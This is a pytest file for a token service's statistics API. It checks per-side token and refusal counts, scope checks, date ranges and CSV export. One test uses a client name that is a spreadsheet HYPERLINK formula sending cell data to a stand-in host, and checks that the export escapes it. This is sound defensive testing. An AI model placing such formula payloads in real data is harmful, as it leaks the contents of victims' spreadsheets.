"""Counts of issued and refused tokens, for each side (docs/protocol.md §5.17)."""

import csv
import io
import time

import pytest
import requests

from expect import issued
from harness.world import World, quote
from harness.wire import Wire
from test_api_clients import refused

PATH = "/api/v1/statistics"
COUNTED_WITHIN = 20
READ, OPERATOR_READ, OPERATOR_WRITE = "idporten:dcr.read", "idporten:operator.read", "idporten:operator.write"


def report(api, asker="consumer-admin", **question):
    query = "&".join(f"{name}={quote(str(value))}" for name, value in question.items())
    response = api("GET", f"{PATH}?{query}", asker)
    assert response.status_code == 200, response.text
    return response.json()


def totals(rows):
    return sum(row["tokens"] for row in rows), sum(row["refusals"] for row in rows)


def counted(api, wanted, asker="consumer-admin", **question):
    """The rows, once they add up to (tokens, refusals): the server counts within seconds, and nothing says when."""
    deadline = time.monotonic() + COUNTED_WITHIN
    while True:
        rows = report(api, asker, **question)["rows"]
        if totals(rows) == wanted or time.monotonic() > deadline:
            assert totals(rows) == wanted, rows
            return rows


@pytest.fixture
def two(world):
    return [world.scope(), world.scope()]


@pytest.fixture
def client(world, two):
    return world.client(two)


#= statistics.once statistics.sides
def test_a_token_is_counted_on_every_side_and_once_in_every_sum(wire, api, sandbox, desk, two, client):
    """§5.17: with two scopes it is one token, and one of each scope."""
    for _ in range(3):
        issued(wire.fetch(client, {"scope": " ".join(two)}))
    issued(wire.fetch(client, {"scope": two[0]}))
    (row,) = counted(api, (4, 0), client_id=client.client_id)
    assert (row["key"], row["name"]) == ("", None)
    rows = report(api, client_id=client.client_id, by="scope")["rows"]
    assert {each["key"]: each["tokens"] for each in rows} == {two[0]: 4, two[1]: 3}
    assert {each["name"] for each in rows} == {"Made by a test"}
    (row,) = report(api, by="client", client_id=client.client_id)["rows"]
    assert (row["key"], row["name"]) == (client.client_id, client.body["client_name"])
    (row,) = report(api, "owner-admin", side="owner", client_id=client.client_id)["rows"]
    assert row["tokens"] == 4
    (row,) = report(api, "owner-admin", side="owner", by="consumer", scope=two[1])["rows"]
    assert (row["key"], row["name"], row["tokens"]) == (client.orgno, sandbox.organisation("consumer")["name"], 3)
    (row,) = report(api, "owner-admin", side="owner", by="client", scope=two[1])["rows"]
    assert (row["key"], row["name"]) == (client.client_id, None)  # what its owner calls it is not the API owner's
    for scope in (OPERATOR_READ, OPERATOR_WRITE):
        (row,) = report(api, desk.operator(scope), side="operator", by="client", client_id=client.client_id)["rows"]
        assert (row["name"], row["tokens"]) == (client.body["client_name"], 4)


#= statistics.sides
def test_nobody_sees_what_is_not_its_own(wire, api, desk, two, client):
    """§5.17: every side of a stranger is empty, and the operator's is refused."""
    issued(wire.fetch(client, {"scope": two[0]}))
    counted(api, (1, 0), client_id=client.client_id)
    stranger = desk.token("317777019", READ, "idporten:scopes.read", OPERATOR_READ)
    for side in ("consumer", "owner", "supplier"):
        for narrowed in ({"client_id": client.client_id}, {"scope": two[0]}, {"consumer": client.orgno}):
            assert report(api, stranger, side=side, **narrowed)["rows"] == []
    assert api("GET", f"{PATH}?side=operator", stranger).status_code == 403
    assert report(api, "consumer-admin", side="owner", client_id=client.client_id)["rows"] == []


#= statistics.sides api.scope-needed
@pytest.mark.parametrize("side, scopes, enough", [
    ("consumer", ("idporten:scopes.read",), False), ("supplier", ("idporten:scopes.read",), False), ("owner", (READ,), False),
    ("operator", (READ, "idporten:scopes.read"), False), ("operator", ("idporten:cloud.read",), False),
    ("consumer", (READ,), True), ("supplier", (READ,), True), ("owner", ("idporten:scopes.read",), True)])
def test_each_side_has_its_scope(api, desk, side, scopes, enough):
    """§5.2: also for the operator's own organisation."""
    response = api("GET", f"{PATH}?side={side}", desk.operator(*scopes))
    assert response.status_code == (200 if enough else 403)
    if not enough:
        assert 'error="insufficient_scope"' in response.headers["WWW-Authenticate"]


#= statistics.sides
def test_a_supplier_sees_what_it_did_for_whom(wire, api, world, sandbox):
    """§5.17: the token is the consumer's and the supplier's, and neither counts it twice."""
    scope = world.delegable_scope()
    world.delegate(scope)
    client = world.client([scope], admin="supplier-admin")
    issued(wire.fetch(client, {"consumer_org": world.consumer}))
    (row,) = counted(api, (1, 0), "supplier-admin", side="supplier", by="consumer", client_id=client.client_id)
    assert (row["key"], row["name"]) == (world.consumer, sandbox.organisation("consumer")["name"])
    (row,) = report(api, "consumer-admin", by="supplier", scope=scope)["rows"]
    assert (row["key"], row["tokens"]) == (sandbox.organisation("supplier")["orgno"], 1)
    assert report(api, "supplier-admin", client_id=client.client_id)["rows"] == []


#= statistics.refusals
def test_refusals_are_counted_by_client_and_code(wire, api, desk, two, client):
    """§5.17: the owner of the client sees them, and unknown clients are the operator's alone."""
    issued(wire.fetch(client, {"scope": two[0]}))
    for _ in range(3):
        wire.fetch(client, {"scope": two[0], "aud": "https://x.example/"})
    wire.fetch(client, {"scope": "fjellrev:none"})
    rows = counted(api, (0, 4), by="code", client_id=client.client_id)
    assert {each["key"]: each["refusals"] for each in rows} == {"MP-110": 3, "MP-200": 1}
    counted(api, (1, 4), client_id=client.client_id)
    assert totals(report(api, by="scope", scope=two[0])["rows"]) == (1, 0)
    operator = desk.operator(OPERATOR_READ)
    before = totals(report(api, operator, side="operator", by="code")["rows"])[1]
    wire.fetch(client, {"iss": "no-such-client"})
    rows = counted(api, (0, before + 1), operator, side="operator", by="code")
    assert "MP-100" in {each["key"] for each in rows}
    assert "" in {each["key"] for each in report(api, operator, side="operator", by="client")["rows"]}


#= statistics.csv
def test_csv_has_the_same_rows_and_no_formulas(wire, api, world, two):
    """§5.17: a name that a spreadsheet would run is text."""
    name = '=HYPERLINK("https://x.example/?"&A1;"klikk")'
    client = world.client(two, client_name=name)
    issued(wire.fetch(client, {"scope": two[0]}))
    (row,) = counted(api, (1, 0), by="client", client_id=client.client_id)
    assert row["name"] == name
    response = api("GET", f"{PATH}?by=client&client_id={client.client_id}&format=csv", "consumer-admin")
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith("attachment")
    assert "Portvakt-Truncated" not in response.headers
    assert list(csv.reader(io.StringIO(response.content.decode(), newline=""))) == [
        ["time", "key", "name", "tokens", "refusals"], [row["time"], client.client_id, "'" + name, "1", "0"]]


#= statistics.intervals
def test_time_is_told_as_the_interval_is(wire, api, client, two):
    """§5.17: hours, days and months in UTC; the usual range ends today."""
    issued(wire.fetch(client, {"scope": two[0]}))
    counted(api, (1, 0), client_id=client.client_id)
    for interval, form, days in (("hour", "%Y-%m-%dT%H:00:00Z", 0), ("day", "%Y-%m-%d", 29), ("month", "%Y-%m", 364)):
        told = report(api, interval=interval, client_id=client.client_id)
        (row,) = told["rows"]
        now = time.time()
        assert row["time"] in {time.strftime(form, time.gmtime(now - ago)) for ago in (0, 60)}
        assert told["to"] == time.strftime("%Y-%m-%d", time.gmtime(now))
        assert told["from"] == time.strftime("%Y-%m-%d", time.gmtime(now - days * 86400))
        assert (told["interval"], told["by"], told["truncated"]) == (interval, "none", False)


#= statistics.range
@pytest.mark.parametrize("query, field", [
    ("from=2026-03-02&to=2026-03-02", None), ("from=2026-03-03&to=2026-03-02", "from"),
    ("from=2025-01-01&to=2026-02-04", None), ("from=2025-01-01&to=2026-02-05", "from"),
    ("from=2025-01-01&to=2026-02-04&interval=month", None), ("from=2025-01-01&to=2026-02-05&interval=month", "from"),
    ("from=2026-03-01&to=2026-03-31&interval=hour", None), ("from=2026-03-01&to=2026-04-01&interval=hour", "from"),
    ("from=2026-02-29", "from"), ("to=i dag", "to"), ("to=2026-03-02T00:00:00Z", "to"), ("interval=week", "interval"),
    ("by=robot", "by"), ("side=nobody", "side"), ("format=xml", "format"), ("scope=nocolon", "scope"),
    ("supplier=312345670", "supplier"), ("consumer=312345670", "consumer"), ("consumer=VATDE-123456789", None),
    ("side=supplier&by=code", None)])
def test_what_cannot_be_asked_is_refused(api, query, field):
    """§5.17: 400 days, 31 with hours, both ends included; nothing found is an empty list."""
    response = api("GET", f"{PATH}?{query}", "consumer-admin")
    if field is None:
        assert response.status_code == 200, response.text
        assert response.json()["rows"] == [] or "from=" not in query
    else:
        refused(response, 400, field)


#= statistics.range
def test_an_owner_has_no_refusals_to_divide(api):
    """§5.17: a refusal belongs to a client."""
    refused(api("GET", f"{PATH}?side=owner&by=code", "owner-admin"), 400, "by")


#= statistics.once
def test_a_crash_neither_loses_nor_repeats_a_token(fresh_sandbox):
    """§5.17: killed as the counting goes on, twice."""
    wire = Wire(fresh_sandbox)
    world = World(wire)
    scope = world.scope()
    client = world.client([scope])
    for _ in range(2):
        for _ in range(20):
            issued(wire.fetch(client))
        fresh_sandbox.kill()
        fresh_sandbox.start()
    counted(wire.api, (40, 0), client_id=client.client_id)
    lag = requests.get(fresh_sandbox.management + "/metrics", timeout=30).text
    assert "\nstatistics_lag_seconds " in lag
